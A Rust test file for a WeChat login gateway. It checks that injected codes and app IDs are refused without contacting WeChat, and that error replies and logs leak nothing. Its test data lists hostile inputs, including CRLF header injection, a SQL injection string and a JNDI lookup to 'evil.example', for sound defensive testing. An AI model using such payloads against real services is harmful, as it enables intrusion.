//! Texts that are no codes, and what their senders hoped for.

use reqwest::Method;
use serde_json::json;

use crate::harness::{APP, Gateway, OTHER_APP};

/// WeChat is asked with the code in a query string, beside the AppSecret: a code that adds parameters of its own, ends
/// the line or the string would ask something else.
#[tokio::test]
async fn refuses_codes_that_inject_into_the_call_of_wechat() {
    let gateway = Gateway::dev().await;
    let client = gateway.client();
    let four_kilobytes = "a".repeat(4_096);
    let just_too_long = "a".repeat(129);
    let codes = [
        "abc&appid=wx000000000000de02".to_owned(),
        format!("abc&appid={OTHER_APP}&secret=x"),
        "abc&grant_type=client_credential".to_owned(),
        "abc%26appid%3Dwx000000000000de02".to_owned(),
        "abc%00".to_owned(),
        "abc\0".to_owned(),
        "abc\r\nHost: evil.example".to_owned(),
        "abc\nGET / HTTP/1.1".to_owned(),
        "abc HTTP/1.1".to_owned(),
        "abc#fragment".to_owned(),
        "abc?x=1".to_owned(),
        "../../cgi-bin/token".to_owned(),
        "abc;appid=x".to_owned(),
        "微信登录".to_owned(),
        "ａｂｃ".to_owned(),
        "abc\u{202e}".to_owned(),
        "' or 1=1 --".to_owned(),
        "${jndi:ldap://evil.example}".to_owned(),
        "abc+def".to_owned(),
        "abc=".to_owned(),
        " abc".to_owned(),
        "abc ".to_owned(),
        " ".to_owned(),
        String::new(),
        four_kilobytes,
        just_too_long,
    ];
    for code in &codes {
        let refused = client.login_with(APP, code).await;
        assert_eq!(refused.refused(400, "CODE_INVALID")["action"], "new_code", "{code:?}");
        assert!(code.trim().len() < 5 || !refused.text.contains(code.as_str()), "echoed: {}", refused.text);
        let tutorial = client.request(Method::POST, "/user/wxlogin").header("X-App-Id", APP);
        let tutorial = client.send(tutorial.json(&json!({ "platCode": code }))).await;
        assert_eq!(tutorial.tutorial_refused(400, "CODE_INVALID")["action"], "new_code", "{code:?}");
    }
    assert_eq!(gateway.simulator().exchanges().await, 0);
    let log = gateway.log();
    for code in codes.iter().filter(|code| code.trim().len() > 4) {
        assert!(!log.contains(code.as_str()), "{code}");
    }
    assert!(!log.contains("evil.example"));
}

#[tokio::test]
async fn the_longest_code_is_sent_and_every_letter_of_one() {
    let gateway = Gateway::dev().await;
    for code in ["a".repeat(128), "-_AZaz09".to_owned()] {
        // WeChat does not know them; that it was asked is the point.
        gateway.client().login_with(APP, &code).await.refused(400, "CODE_INVALID");
    }
    assert_eq!(gateway.simulator().exchanges().await, 2);
}

#[tokio::test]
async fn refuses_appids_that_inject_into_the_call_of_wechat() {
    let gateway = Gateway::dev().await;
    let client = gateway.client();
    let issued = gateway.simulator().code(APP).await;
    for appid in [
        format!("{APP}%26secret=x"),
        format!("{APP}%00"),
        format!("{APP}%0d%0aHost:%20evil.example"),
        format!("{APP}%2f..%2f{OTHER_APP}"),
        format!("{APP}%3fappid=x"),
        "%E5%BE%AE%E4%BF%A1".to_owned(),
    ] {
        client.login_with(&appid, &issued.code).await.refused(404, "APP_UNKNOWN");
        let request = client.request(Method::POST, &format!("/apps/{appid}/user/wxlogin"));
        client.send(request.json(&json!({ "platCode": issued.code }))).await.tutorial_refused(404, "APP_UNKNOWN");
    }
    assert_eq!(gateway.simulator().exchanges().await, 0);
    client.login_with(APP, &issued.code).await.ok();
}

/// An error tells what to do, not what happened inside.
#[tokio::test]
async fn refuses_to_tell_strangers_what_wechat_said() {
    let gateway = Gateway::dev().await;
    let reply = gateway.client().login_with(APP, "0123456789abcdef0123456789abcdef").await;
    let problem = reply.refused(400, "CODE_INVALID");
    let mut keys: Vec<_> = problem.as_object().unwrap().keys().map(String::as_str).collect();
    keys.sort_unstable();
    assert_eq!(keys, ["action", "code", "request_id", "status", "title", "type"]);
    for inside in ["40029", "rid", "errcode", "errmsg", "127.0.0.1", "jscode2session", APP] {
        assert!(!reply.text.replace("request_id", "").contains(inside), "{inside}: {}", reply.text);
    }
}
